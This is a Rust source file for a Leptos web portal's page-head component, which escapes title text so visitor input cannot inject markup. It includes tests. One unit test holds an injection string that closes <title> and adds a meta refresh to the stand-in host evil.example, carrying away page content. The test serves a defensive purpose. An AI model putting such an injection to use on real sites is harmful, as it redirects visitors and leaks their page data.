//! The page's `<title>` and description: the one way a page fills its head.
//!
//! leptos_meta 0.8 writes the title's text into the head as it is, without
//! escaping, so a visitor's search words could close `<title>` and add a
//! `<meta http-equiv=refresh>` or swallow the page. Every page goes through
//! [`PageTitle`], which escapes the text once; `<Meta>`'s attribute values
//! are escaped by the renderer (tachys), so the description is handed over
//! as it is.

use crate::i18n::{t, Text};
use leptos::prelude::*;
use leptos_meta::{Meta, Title};

/// Text made safe to stand between `<title>` and `</title>`.
pub fn escape_head_text(text: &str) -> String {
    let mut escaped = String::with_capacity(text.len());
    for character in text.chars() {
        match character {
            '&' => escaped.push_str("&amp;"),
            '<' => escaped.push_str("&lt;"),
            '>' => escaped.push_str("&gt;"),
            other => escaped.push(other),
        }
    }
    escaped
}

/// The page's title and its description (search results, link previews):
/// the page's own summary where it has one, the portal's otherwise, so every
/// page has exactly one.
#[component]
pub fn PageTitle(#[prop(into)] text: String, #[prop(optional, into)] description: Option<String>) -> impl IntoView {
    let description = description.filter(|text| !text.trim().is_empty()).unwrap_or_else(|| t(Text::PortalDescription).to_string());
    view! {
        <Title text=escape_head_text(&text)/>
        <Meta name="description" content=description/>
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn markup_cannot_leave_the_title() {
        let typed = "</title><meta http-equiv=refresh content='0;url=https://evil.example/?";
        let escaped = escape_head_text(typed);
        assert!(!escaped.contains('<') && !escaped.contains('>'), "{escaped}");
        assert_eq!(escape_head_text("TARI & TEFA"), "TARI &amp; TEFA");
    }

    proptest! {
        #[test]
        fn escaped_text_has_no_markup_and_reads_back(text in ".{0,80}") {
            let escaped = escape_head_text(&text);
            prop_assert!(!escaped.contains('<') && !escaped.contains('>'));
            let read_back = escaped.replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&");
            prop_assert_eq!(read_back, text);
        }
    }

    /// A page that used leptos_meta's `<Title>` directly would skip the
    /// escaping: every page source names `PageTitle` instead.
    #[test]
    fn no_page_uses_title_or_meta_directly() {
        let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("src");
        let mut offenders = Vec::new();
        let mut folders = vec![root];
        while let Some(folder) = folders.pop() {
            for entry in std::fs::read_dir(&folder).unwrap() {
                let path = entry.unwrap().path();
                if path.is_dir() {
                    folders.push(path);
                } else if path.extension().is_some_and(|extension| extension == "rs") && !path.ends_with("components/head.rs") {
                    let source = std::fs::read_to_string(&path).unwrap();
                    if source.contains("<Title") || source.contains("<Meta ") || source.contains("leptos_meta::Title") {
                        offenders.push(path.display().to_string());
                    }
                }
            }
        }
        assert!(offenders.is_empty(), "use PageTitle (with its description) in {offenders:?}");
    }
}
